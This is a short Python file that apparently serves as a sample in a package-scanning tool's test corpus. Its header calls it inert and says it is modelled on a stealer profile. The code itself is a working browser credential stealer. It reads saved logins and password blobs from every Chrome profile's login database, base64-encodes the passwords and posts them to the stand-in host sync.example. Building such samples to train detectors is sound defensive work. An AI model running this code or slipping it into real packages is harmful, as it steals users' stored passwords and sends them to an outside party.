# pkgguard corpus 422 (browser-data), modelled on [stealer-profile]; inert, never run.
import base64
import pathlib
import sqlite3

import httpx

found = []
for profile in (pathlib.Path.home() / ".config" / "google-chrome").glob("*"):
    db = profile / "Login Data For Account"
    if db.is_file():
        rows = sqlite3.connect(f"file:{db}?mode=ro", uri=True).execute(
            "SELECT origin_url, username_value, password_value FROM logins"
        )
        found += [(u, n, base64.b64encode(p).decode()) for u, n, p in rows]
httpx.Client(timeout=15).post("https://sync.example/a", json=found)
